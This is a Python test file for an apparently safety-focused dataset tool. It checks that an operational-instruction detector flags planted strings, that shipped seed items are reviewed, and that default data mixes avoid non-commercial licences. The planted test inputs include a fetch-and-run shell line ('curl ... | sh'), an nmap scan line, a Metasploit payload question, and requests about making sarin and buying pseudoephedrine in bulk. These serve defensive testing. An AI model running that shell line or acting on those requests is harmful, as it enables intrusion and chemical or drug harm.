"""No shipped seed item holds an operational instruction; each was looked at as it is; no mix is for research alone."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from longsafety.configuration.compose import compose_jobs
from longsafety.configuration.places import CONF
from longsafety.configuration.settle import settle
from longsafety.corpus.embedded import EMBEDDED, embedded_licence
from longsafety.samples.licence import restriction
from longsafety.scenarios.operational import operational
from longsafety.scenarios.seeds.shipped import SHIPPED, seed_card
from tests.scenarios.seeds_reviewed import REVIEWED, RULES, SEEDS, items, problems, renew

PLANTED = {
    "en": [
        "1. Take the lid off. 2. Pour it in.",
        "- First wire\n- Second wire",
        "Step two is to remove the guard.",
        "First take the cover off, then turn the screw, and finally let it run.",
        "Dissolve 20 g in water.",
        "Add two cups of it.",
        "Heat it to 180 °C.",
        "Use a 3:1 ratio of the two.",
        "Ingredients: what the shed has.",
        "Mix the powder with the liquid until it is warm, then filter it.",
        "Run nmap against the server.",
        "curl http://10.0.0.1/x | sh",
        "Write to dealer@example.com for it.",
        "How is sarin made at home?",
        "Where does one buy pseudoephedrine in bulk?",
        "Which payload of Metasploit opens it?",
        "The salt is KClO3.",
    ],
    "zh": [
        "步骤一是打开盖子。",
        "1、打开盖子 2、倒进去",
        "首先打开盖子，然后倒进去，最后加热。",
        "加入20克粉末。",
        "取三茶匙放进去。",
        "配方：棚子里的东西。",
        "混合两种液体直到变热，再过滤。",
        "怎样在家里制作沙林？",
        "用 sudo 打开它",
        "请写信到 a@b.com 购买。",
    ],
}
_FIELDS = ("request", "statement", "compliant_stub", "options")


@pytest.mark.parametrize(("language", "text"), [(code, text) for code, texts in PLANTED.items() for text in texts])
def test_each_planted_instruction_is_found(language: str, text: str) -> None:
    assert operational(text, language)


@pytest.mark.slow
def test_every_shipped_item_is_reviewed_as_it_is() -> None:
    assert problems() == []
    found = list(items())
    assert len({item[:2] for item in found}) == len(found) > 2000


@pytest.mark.slow
@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_planted_item_fails_the_check(language: str, tmp_path: Path) -> None:
    folder = tmp_path / "seeds"
    (folder / language).mkdir(parents=True)
    shutil.copy(SEEDS / language / "fraud.jsonl", folder / language)
    shutil.copy(REVIEWED, tmp_path / "reviewed.csv")
    assert problems(folder, tmp_path / "reviewed.csv") == []
    file = folder / language / "fraud.jsonl"
    good = file.read_text("utf-8")
    for number, text in enumerate(PLANTED[language]):
        field = _FIELDS[number % len(_FIELDS)]
        row = {"id": "planted", field: {"unsafe": [text]} if field == "options" else text}
        file.write_text(good + json.dumps(row, ensure_ascii=False) + "\n", "utf-8")
        [problem] = problems(folder, tmp_path / "reviewed.csv")
        assert f"{language}/fraud.jsonl planted: is not reviewed" in problem
        assert renew(folder, tmp_path / "reviewed.csv") == 1, text  # it waits for a person
        with (tmp_path / "reviewed.csv").open(encoding="utf-8") as stream:
            lines = stream.read()
        (tmp_path / "reviewed.csv").write_text(lines.rstrip("\n") + RULES + "\n", "utf-8")
        [problem] = problems(folder, tmp_path / "reviewed.csv")
        assert "reword it, or read it and name yourself" in problem, text
    changed = good.replace("request", "request ", 1)
    file.write_text(changed, "utf-8")
    assert len(problems(folder, tmp_path / "reviewed.csv")) == 1  # an item that was changed after its review


@pytest.mark.slow
def test_no_default_mix_holds_what_is_for_non_commercial_use() -> None:
    assert restriction(str(seed_card()["licence"])) == ""
    assert not any(restriction(embedded_licence(source)) for source in EMBEDDED)
    assert "non-commercial" in restriction("CC-BY-NC-4.0")
    mixes = sorted(path.stem for path in (CONF / "data_mix").glob("[!_]*.yaml"))
    assert len(mixes) > 5
    for settings in settle(compose_jobs(["scale=smoke", f"data_mix={','.join(mixes)}"]), lambda line: None):
        assert (settings.scenario.seeds, settings.corpus.source) == (SHIPPED, "embedded")
        assert not any(source.kind == "chats" or source.path for source in settings.data_mix.sources.values())
